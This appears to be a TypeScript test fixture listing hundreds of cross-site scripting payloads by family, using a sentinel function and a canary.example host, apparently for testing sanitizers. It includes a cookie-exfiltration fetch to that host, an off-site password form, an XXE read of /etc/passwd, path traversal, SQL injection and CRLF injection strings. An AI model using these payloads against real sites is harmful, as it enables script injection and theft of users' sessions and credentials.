/**
 * Texts that become script, markup or a foreign address wherever they are taken for more than text, by what they try.
 * Those that can run call `__ran()`; what they fetch or open is on canary.example.
 */
const FAMILIES: Record<string, string[]> = {
  'script elements': [
    '<script>__ran()</script>', '<ScRiPt>__ran()</sCrIpT>', '<script src=//canary.example/x.js></script>', '<script/x>__ran()</script >', '<script\n>__ran()</script\t>',
    '<script type=module>__ran()</script>', '<script>__ran()//', '<scr<script>ipt>__ran()</scr</script>ipt>', '<<script>__ran()//<</script>', '"><script>__ran()</script>', "'><script>__ran()</script>",
    '</title><script>__ran()</script>', '</textarea><script>__ran()</script>', '</style><script>__ran()</script>', '<script>fetch("//canary.example/"+document.cookie)</script>', '<script>location="//canary.example"</script>',
    '<script>import("//canary.example/x.mjs")</script>', '<script async src=data:text/javascript,__ran()></script>', '<noscript><p title="</noscript><img src=x onerror=__ran()>">', '<script>new Worker("//canary.example/w.js")</script>',
  ],
  'event handlers': [
    '<img src=x onerror=__ran()>', '<img src=x onerror=__ran()//', '<IMG SRC=x OnErRoR=__ran()>', '<img/src/onerror=__ran()>', '<img src=x\u000conerror=__ran()>', '<img src=x onerror\n=\n__ran()>',
    '<body onload=__ran()>', '<body onpageshow=__ran()>', '<details open ontoggle=__ran()>', '<input autofocus onfocus=__ran()>', '<select autofocus onfocus=__ran()>', '<video><source onerror=__ran()></video>', '<audio src=x onerror=__ran()>',
    '<marquee onstart=__ran()>', '<style onload=__ran()></style>', '<link rel=stylesheet href=x onerror=__ran()>', '<p style=animation:spin onanimationstart=__ran()>', '<x onclick=__ran()>Maya', '<x tabindex=1 onfocus=__ran() autofocus>',
    '" onmouseover="__ran()', "' onfocus='__ran()' autofocus='", '" autofocus onfocus=__ran() x="', '`onmouseover=__ran()', '"onpointerenter=__ran()//', '<button popovertarget=x onbeforetoggle=__ran()>', '<a href=# onclick=__ran()>me</a>',
  ],
  'drawings and formulas': [
    '<svg onload=__ran()>', '<svg/onload=__ran()>', '<svg><script>__ran()</script></svg>', '<svg><script href=data:,__ran() /></svg>', '<svg><animate onbegin=__ran() attributeName=x dur=1s>', '<svg><set onbegin=__ran() attributeName=x>',
    '<svg><a xlink:href=javascript:__ran()><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=__ran()>#x"/>', '<svg><foreignObject><img src=x onerror=__ran()></foreignObject></svg>', '<svg><image href=x onerror=__ran()>',
    '<svg><a><animate attributeName=href values=javascript:__ran() /><text y=20>x</text></a>', '<math href=javascript:__ran()>x</math>', '<math><maction actiontype=statusline xlink:href=javascript:__ran()>x', '<math><mi xlink:href="data:x,<script>__ran()</script>">x', '<svg><![CDATA[><img src=x onerror=__ran()>]]>',
  ],
  'mutations of markup': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=__ran()>">', '<svg></p><style><a id="</style><img src=1 onerror=__ran()>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__ran()>',
    '<noscript><style></noscript><img src=x onerror=__ran()>', '<listing>&lt;img src=x onerror=__ran()&gt;</listing>', '<table><td background=javascript:__ran()>', '<xmp><p title="</xmp><img src=x onerror=__ran()>">', '<template><img src=x onerror=__ran()></template>',
    '<select><template shadowrootmode=open><img src=x onerror=__ran()>', '<div><template shadowrootmode=open><script>__ran()</script></template></div>', '<p id="<img src=x onerror=__ran()>">', '&lt;img src=x onerror=__ran()&gt;', '&#60;script&#62;__ran()&#60;/script&#62;', '&amp;lt;script&amp;gt;__ran()',
  ],
  'frames and objects': [
    '<iframe src=javascript:__ran()>', '<iframe srcdoc="<script>parent.__ran()</script>">', '<iframe src=//canary.example></iframe>', '<iframe srcdoc=&lt;script&gt;parent.__ran()&lt;/script&gt;>', '<object data=javascript:__ran()>', '<object data="data:text/html,<script>__ran()</script>">',
    '<embed src=javascript:__ran()>', '<embed src=//canary.example/x.svg>', '<frameset onload=__ran()>', '<applet code=//canary.example/x.class>', '<portal src=//canary.example>', '<iframe onload=__ran()>', '<iframe name=__ran src=about:blank>',
  ],
  'addresses': [
    'javascript:__ran()', 'JaVaScRiPt:__ran()', ' javascript:__ran()', 'java\tscript:__ran()', 'java\nscript:__ran()', '\u0001javascript:__ran()', 'javascript\u00a0:__ran()', 'javascript://%0a__ran()', 'javascript&colon;__ran()', '&#106;avascript:__ran()', 'javascript:/*https://x.com/*/__ran()',
    'data:text/html,<script>__ran()</script>', 'data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+', 'DATA:image/svg+xml,<svg onload=__ran()>', 'vbscript:MsgBox(1)', 'VbScRiPt:Execute(1)', 'blob:https://canary.example/1', 'file:///etc/passwd', 'view-source:javascript:__ran()',
    '//canary.example', '\\\\canary.example', 'https:canary.example', 'https://x.com@canary.example/', 'http://canary.example/?javascript:__ran()', '<a href=javascript:__ran()>me</a>', '<a href="java&#10;script:__ran()">me</a>', '<a href=//canary.example target=_blank>me</a>',
  ],
  'what a page is made of': [
    '<meta http-equiv=refresh content="0;url=//canary.example">', '<meta http-equiv=refresh content="0;url=javascript:__ran()">', '<meta http-equiv=set-cookie content=sid=1>', '<base href=//canary.example/>', '<link rel=stylesheet href=//canary.example/x.css>', '<link rel=preload as=script href=//canary.example/x.js>',
    '<form action=//canary.example><input name=password></form>', '<form action=javascript:__ran()><button>Save</button>', '<button form=x formaction=javascript:__ran()>Save', '<form id=x></form><input form=x name=submit>', '<isindex action=javascript:__ran() type=image>', '<input type=image src=//canary.example/x.png>', '<img src=//canary.example/x.png>', '<video poster=//canary.example/x.png>', '<a ping=//canary.example href=/>me</a>', '<img srcset="//canary.example/x.png 2x">',
  ],
  'styles': [
    '<style>@import "//canary.example/x.css";</style>', '<style>*{background:url(//canary.example/x)}</style>', '<p style=background:url(javascript:__ran())>', '<p style=width:expression(__ran())>', 'expression(__ran())', 'url(//canary.example/x.png)', '}*{background:url(//canary.example/x)', 'red;background:url(javascript:__ran())', '<p style=position:fixed;inset:0;z-index:99>', '</style><img src=x onerror=__ran()>',
  ],
  'names of things': [
    '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', '__defineGetter__', '<a id=__ran><a id=__ran name=href href=x>', '<img name=cookie>', '<form id=document><input name=body>', '<img name=getElementById>', '<a id=location href=javascript:__ran()>', '{"__proto__":{"isSubscribed":true}}', '[object Object]', 'undefined', 'null',
  ],
  'texts of other languages': [
    '{{constructor.constructor("__ran()")()}}', '${__ran()}', '`${__ran()}`', '<%= __ran() %>', '#{__ran()}', '{__ran()}', '\\u003cscript\\u003e__ran()\\u003c/script\\u003e', '\\x3cscript\\x3e__ran()', '%3Cscript%3E__ran()%3C/script%3E', '%253Cscript%253E__ran()', '"};__ran();//', "';__ran();//", '\\";__ran();//', ')]}\',__ran()', '\u2028__ran()//', '[me](javascript:__ran())', '![me](x" onerror="__ran())', '<javascript:__ran()>', '[me]: data:text/html,<script>__ran()</script>',
    '{"x":"</script><script>__ran()</script>"}', '</script><img src=x onerror=__ran()>', '<!--<img src="--><img src=x onerror=__ran()//">', '--><script>__ran()</script>', ']]><script>__ran()</script>', '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">__ran()</x:script>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '=HYPERLINK("//canary.example")', "1' or '1'='1", '../../../etc/passwd', '\r\nSet-Cookie: sid=1\r\n\r\n<script>__ran()</script>',
  ],
  'letters that are not seen': [
    '\u202e<script>__ran()</script>', 'Maya\u202egnp.exe\u202c', '\u2066\u2069<img src=x onerror=__ran()>', '<scr\u200bipt>__ran()</scr\u200bipt>', 'java\u200dscript:__ran()', '\ufeff<script>__ran()</script>', '\u001b[31m__ran()\u001b[0m', '\u001b]8;;javascript:__ran()\u0007me\u001b]8;;\u0007', '＜script＞__ran()＜/script＞', '\u02bcscript\u02bd__ran()', '\u0008\u007f<img src=x onerror=__ran()>', 'Z\u0351\u0352\u0353algo<svg/onload=__ran()>', '\u00ad<svg onload=__ran()>',
  ],
  'everything at once': [
    'javascript://--></title></style></textarea></script><svg "//\' onclick=__ran()//', '\'"`><!--</script></style></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+__ran()//\'>', '-->\'"/></sCript><deTailS open oNtoggLe=__ran()>', '"\'--></noscript></iframe><img src=x onerror=__ran()>', `${'<b>'.repeat(60)}<img src=x onerror=__ran()>`, `<img src="${'x'.repeat(300)}" onerror=__ran()>`, `<!--${'-'.repeat(500)}--><svg onload=__ran()>`, `${'\u202e'.repeat(200)}<script>__ran()</script>`,
  ],
} // prettier-ignore

export const SCRIPT_PAYLOADS: readonly string[] = Object.values(FAMILIES).flat()

/** Hostile as well, and nothing that a database can keep: each holds NUL or half a surrogate pair. */
export const UNSTORABLE: readonly string[] = [
  '<scr\0ipt>__ran()</scr\0ipt>', 'java\0script:__ran()', '<img src=x onerror\0=__ran()>', '\0<svg onload=__ran()>', '\ud800<script>__ran()</script>', '<script>__ran()</script>\udc00', '\udc00\ud800<svg onload=__ran()>', '<img src=x\ud83d onerror=__ran()>',
] // prettier-ignore
